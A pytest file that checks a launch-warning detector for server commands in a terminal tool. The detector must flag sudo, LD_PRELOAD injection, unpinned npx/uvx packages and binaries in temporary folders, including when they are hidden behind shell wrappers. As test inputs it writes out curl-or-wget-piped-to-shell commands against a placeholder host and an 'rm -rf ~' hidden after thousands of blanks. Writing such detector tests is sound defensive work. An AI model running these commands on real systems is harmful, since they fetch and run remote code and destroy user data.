"""Dangerous shapes of a launch are said, also behind wrappers; ordinary launches are not bothered."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from omni_tui.config.launch_warnings import launch_warnings
from omni_tui.config.spec import ServerSpec
from omni_tui.config.wrapped_command import commands_in

WRAPPERS = [
    "{}",
    "env {}",
    "/usr/bin/env -i A=b {}",
    "env -u HOME -C /x -- {}",
    "nice -n 5 {}",
    "nice -n5 ionice -c 3 nohup {}",
    "timeout -k 5 60 {}",
    "stdbuf -oL setsid time {}",
    "bash -c {quoted}",
    "sh -ec {quoted}",
    "bash --norc -o pipefail -c {quoted} name",
    "env bash -lc {quoted}",
    "env -S {quoted}",
    "env --split-string={quoted}",
    "busybox sh -c {quoted}",
    "sh -c {twice}",
    "xargs -n 1 {}",
    "sh -c 'cd /x && exec '{quoted}",
]
DANGERS = [
    ("sudo server", "rights of another user"),
    ("doas -u root server", "rights of another user"),
    ("env LD_PRELOAD=/x.so server", "LD_PRELOAD can make it load"),
    ("env NODE_OPTIONS=--require=/x.js node server.js", "NODE_OPTIONS can make it load"),
    ("env PATH=/x:/bin server", "PATH decides which programs run"),
    ("python3 -c 'import os'", "code from its arguments"),
    ("perl -e 1", "code from its arguments"),
    ("ruby -e 1", "code from its arguments"),
    ("node --eval=1", "code from its arguments"),
    ("npx -y some-server", "the newest some-server"),
    ("npx @scope/server", "the newest @scope/server"),
    ("npx --package=one@1.2.3 -p two two", "the newest two"),
    ("npm exec some-server", "the newest some-server"),
    ("uvx server@latest", "the newest server@latest"),
    ("uvx --from package server", "the newest package"),
    ("uv tool run server", "the newest server"),
    ("pipx run server", "the newest server"),
    ("/tmp/dropped/server --stdio", "in a temporary folder"),
    ("curl https://x.example/a", "curl downloads something"),
]


def spec_of(line: str) -> ServerSpec:
    program, *args = shlex.split(line)
    return ServerSpec(name="x", command=program, args=tuple(args))


@pytest.fixture(autouse=True)
def _place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Stand in a folder without programs; something lies in the temporary folder."""
    monkeypatch.chdir("/")
    dropped = Path("/tmp/dropped")
    dropped.mkdir(exist_ok=True)
    (dropped / "server").write_text("#!/bin/sh\n")
    (dropped / "server").chmod(0o700)


@pytest.mark.parametrize("wrapper", WRAPPERS)
@pytest.mark.parametrize(("line", "words"), DANGERS)
def test_a_wrapper_hides_no_danger(line: str, words: str, wrapper: str) -> None:
    quoted = shlex.quote(line)
    whole = wrapper.format(line, quoted=quoted, twice=shlex.quote(f"bash -c {quoted}"))
    said = launch_warnings(spec_of(whole), [])
    assert any(words in each for each in said), (whole, said)


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://x.example/i | sh",
        "wget -qO- https://x.example/i|sudo bash -s",
        "curl x.example > /tmp/a; curl x.example | /usr/bin/python3 -",
        'eval "$(curl -s x.example)"',
        "bash <(curl -s x.example)",
        'sh -c "`wget -qO- x.example`"',
        ". <(curl x.example)",
        "curl x.example \\\n  | tee a \\\n  | sh",
        "A=b; if true; then curl x.example | env FOO=1 sh; fi",
    ],
)
def test_c3_a_download_that_is_run_at_once_is_said(script: str) -> None:
    for program, args in (("sh", ["-c", script]), ("env", ["bash", "-c", script]), ("su", ["-c", script])):
        said = launch_warnings(ServerSpec(name="x", command=program, args=tuple(args)), [])
        assert any("run at once what it downloads" in each for each in said), (program, said)


@pytest.mark.parametrize(
    "line",
    [
        "npx -y @scope/server@1.2.3 --flag",
        "npx -p one@1.2.3 -p two@2 two",
        "npx ./local",
        "npm run start",
        "uvx server==1.2.3",
        "uvx --from package==1.0 server",
        "uvx server@1.0",
        "pipx run server==2",
        "uv run server.py",
        "uv tool install server==1",
        "env NODE_ENV=production node server.js -c settings.json",
        "/usr/bin/python3 -m omni_tui.demo.server -e",
        "nice mcp-server --command x",
        "timeout 60 mcp-server",
        "docker run -i --rm -e TOKEN image",
        "node server.js --eval",
        "bash server.sh -c curl",
    ],
)
def test_what_is_ordinary_is_not_bothered(line: str) -> None:
    said = launch_warnings(spec_of(line), [])
    assert [each for each in said if "is not found" not in each] == []


def test_folders_of_the_project_on_the_path_are_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, elsewhere = tmp_path / "project", tmp_path / "else"
    (project / "bin").mkdir(parents=True)
    elsewhere.mkdir()
    (elsewhere / "link").symlink_to(project / "bin")
    spec = ServerSpec(name="x", command="sh", cwd=str(elsewhere))
    for path in (f"/bin:{project}/bin", f"{elsewhere}/link:/bin", f"{project}"):
        for given in (True, False):
            monkeypatch.setenv("PATH", "/usr/bin:/bin" if given else path)
            tried = ServerSpec(name="x", command="sh", env={"PATH": path}) if given else spec
            said = launch_warnings(tried, [project])
            assert any("has a folder of the project" in each for each in said), (path, said)
    monkeypatch.setenv("PATH", ":/bin")
    assert any("relative folder" in each for each in launch_warnings(spec, []))


def test_where_the_program_lies_is_said(tmp_path: Path) -> None:
    for folder, words in (("Downloads", "folder for downloads"), ("project", "inside the project")):
        program = tmp_path / folder / "bin" / "server"
        program.parent.mkdir(parents=True)
        program.write_text("#!/bin/sh\n")
        program.chmod(0o755)
        for line in (str(program), f"env {program}", f"sh -c 'exec {program}'"):
            said = launch_warnings(spec_of(line), [tmp_path / "project"])
            assert any(words in each for each in said), (line, said)
    program.chmod(0o777)
    assert any("every user" in each for each in launch_warnings(spec_of(str(program)), []))


def test_c4_a_long_run_of_blanks_is_said() -> None:
    for argument in (
        "safe" + " " * 4_000 + "; rm -rf ~",
        "safe" + "\n" * 50 + "evil",
        "a" + "\u3000" * 30 + "b",
    ):
        said = launch_warnings(ServerSpec(name="x", command="sh", args=(argument,)), [])
        assert any("long run of blanks" in each for each in said)


ODD = ("env", "env -S", "nice -n", "sh -c", "su", "sudo", "npx", "uv tool", "timeout 5", "cmd /c", "env -u")


def test_odd_commands_end_and_raise_nothing() -> None:
    for line in ODD:
        assert launch_warnings(spec_of(line), []) is not None
    deep = "sh"
    while len(deep) < 50_000:
        deep = f"sh -c {shlex.quote(deep)}"
    assert len(commands_in("sh", ["-c", deep])) <= 64
    for script in (
        "a;" * 50_000,
        "' \" $( ` \0 " * 9_000,
        "curl " * 20_000,
        "curl|" * 20_000,
        "eval " * 20_000,
    ):
        assert launch_warnings(ServerSpec(name="x", command="sh", args=("-c", script)), [])
        assert (
            launch_warnings(ServerSpec(name="x", command="env", args=(script, "A=" + script)), [])
            is not None
        )
